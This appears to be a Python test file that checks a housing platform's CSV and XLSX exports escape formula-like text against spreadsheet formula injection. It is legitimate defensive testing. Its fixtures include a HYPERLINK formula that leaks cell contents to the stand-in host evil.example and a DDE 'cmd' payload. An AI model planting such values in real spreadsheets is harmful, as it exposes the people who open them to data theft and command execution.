"""Every CSV/XLSX the platform writes keeps formula-like text as text (no formula
injection), while numbers stay numbers."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from linli.disclosure import services
from linli.tabular import csv_text, safe_cell, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
D = dt.date(2025, 2, 10)


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    # numbers and ordinary text are left alone
    ("-1,234.50", "-1,234.50"), ("+5", "+5"), ("-3", "-3"), ("12.5%", "12.5%"), (-500, -500), (7, 7),
    ("物业费 = 收入", "物业费 = 收入"), ("", ""), (None, ""),
])
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_csv_and_xlsx_keep_formulas_as_text_and_numbers_as_numbers():
    rows = [["标题", "金额"], [EVIL, -1500], ["-2,000.00", "@x"]]
    got = list(csv.reader(io.StringIO(csv_text(rows).lstrip("\ufeff"))))
    assert got == [["标题", "金额"], ["'" + EVIL, "-1500"], ["-2,000.00", "'@x"]]
    ws = load_workbook(io.BytesIO(xlsx_bytes(rows))).active
    assert [[c.value for c in row] for row in ws.iter_rows()] == [["标题", "金额"], [EVIL, -1500], ["-2,000.00", "@x"]]
    assert [[c.data_type for c in row] for row in ws.iter_rows()] == [["s", "s"], ["s", "n"], ["s", "s"]]
    assert ws["A2"].quotePrefix and not ws["A3"].quotePrefix


def _published_service_report(dworld, last_quarter, title):
    year, q = last_quarter
    by = dworld.person("property_x")
    r = services.report_draft(compound=dworld["X"], kind="service", year=year, quarter=q, by=by)
    services.report_add_work(report=r, title=title, date="2025-05-01", note="@note", by=by)
    services.report_review(report=r, approve=True, by=dworld.person("committee_x"))
    return services.report_publish(report=r, by=by)


def test_public_report_xlsx_does_not_turn_a_work_title_into_a_formula(dworld, last_quarter, client):
    r = _published_service_report(dworld, last_quarter, EVIL)
    ws = load_workbook(io.BytesIO(client.get(f"/reports/{r.pk}/export.xlsx").content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    title = next(c for c in cells if c.value == EVIL)
    assert title.data_type == "s" and title.quotePrefix
    text = client.get(f"/reports/{r.pk}/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + EVIL, "works", "2025-05-01", "'@note"] in rows


def test_money_csv_neutralises_memos_and_keeps_amounts(dworld, client):
    by = dworld.person("property_x")
    services.money_entry_create(compound=dworld["X"], kind="fee_received", date=D, amount=500000, memo="+1 物业费",
                                by=by)
    services.money_entry_create(compound=dworld["X"], kind="cleaning", date=D, amount=120050, memo="=1+2", by=by)
    rows = list(csv.reader(io.StringIO(client.get("/compounds/X/money/export.csv").content.decode("utf-8-sig"))))
    assert [r[2:4] for r in rows[1:]] == [["5,000.00", "'+1 物业费"], ["-1,200.50", "'=1+2"]]


def test_every_export_in_the_project_goes_through_tabular():
    """A new CSV/XLSX export must use linli.tabular (csv_text, xlsx_bytes), which keeps
    formula-like text as text; a raw writer elsewhere would let formulas through again."""
    from pathlib import Path

    import linli

    root = Path(linli.__file__).parent
    raw = [str(p.relative_to(root)) for p in root.rglob("*.py")
           if p.name != "tabular.py" and any(w in p.read_text(encoding="utf-8")
                                             for w in ("csv.writer(", "csv.DictWriter(", "Workbook("))]
    assert raw == []
